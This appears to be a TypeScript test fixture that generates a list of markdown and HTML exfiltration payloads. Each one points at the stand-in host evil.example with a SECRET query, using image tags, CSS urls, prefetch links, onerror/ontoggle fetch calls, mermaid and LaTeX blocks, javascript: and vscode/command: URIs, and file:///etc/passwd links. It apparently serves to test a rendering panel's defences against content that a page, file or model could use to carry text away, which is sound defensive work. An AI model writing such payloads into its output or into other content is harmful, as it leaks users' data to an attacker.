export const evilHost = "evil.example/x?d=SECRET";
const schemes = [
  "https://",
  "http://",
  "//",
  "HTTPS://",
  "ftp://",
  "ws://",
  "\\\\\\\\",
  "https:\\/\\/",
  "&#104;ttps://",
  "data:image/svg+xml,https://",
];
const wrap = (make: (url: string) => string): string[] => schemes.map((scheme) => make(scheme + evilHost));

/** What a page, a file or a model could write to make the panel carry text away. */
export const payloads: readonly string[] = [
  ...wrap((url) => `![x](${url})`),
  ...wrap((url) => `![x](<${url}> "t")`),
  ...wrap((url) => `![x][r]\n\n[r]: ${url}`),
  ...wrap((url) => `[![x](${url})](${url})`),
  ...wrap((url) => `<img src="${url}">`),
  ...wrap((url) => `<img srcset='${url} 2x' onerror=fetch('${url}')>`),
  ...wrap((url) => `<svg><image href="${url}"/><use xlink:href="${url}#a"/></svg>`),
  ...wrap((url) => `<iframe src=${url}></iframe>\n<object data=${url}></object>\n<embed src=${url}>`),
  ...wrap((url) => `<style>@import '${url}'; body{background:url(${url})}</style>`),
  ...wrap((url) => `<div style="background:url(${url})">x</div>`),
  ...wrap(
    (url) =>
      `<link rel=prefetch href="${url}"><link rel=dns-prefetch href="${url}"><meta http-equiv=refresh content="0;url=${url}">`,
  ),
  ...wrap((url) => `<video poster="${url}"><source src="${url}"></video><audio src=${url}></audio>`),
  ...wrap((url) => `\`\`\`mermaid\ngraph TD; A["<img src='${url}'>"]; click A href "${url}"\n\`\`\``),
  ...wrap((url) => `$$\\includegraphics{${url}}$$ \\href{${url}}{x}`),
  ...wrap((url) => `| a |\n|---|\n| ![x](${url}) |`),
  ...wrap((url) => `- [ ] ![x](${url})\n> <img src=${url}>`),
  ...wrap((url) => `<script src="${url}"></script><form action="${url}"><input type=image src=${url}></form>`),
  ...wrap((url) => `<a href="${url}" ping="${url}">x</a> <${url}> ${url}`),
  "<!--><img src=//evil.example>-->",
  "<details open ontoggle=fetch('//evil.example')>",
  "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\tscript:alert(1)) [x](&#106;avascript:alert(1))",
  "[x](command:workbench.action.terminal.new) [x](vscode://x.y/z) [x](file:///etc/passwd) [x](data:text/html,<script>1</script>) [x](blob:x)",
  "![x](command:a) ![x](vscode-file://vscode-app/etc/passwd) ![x](file:///etc/passwd) ![x](data:image/png;base64,AAAA)",
];
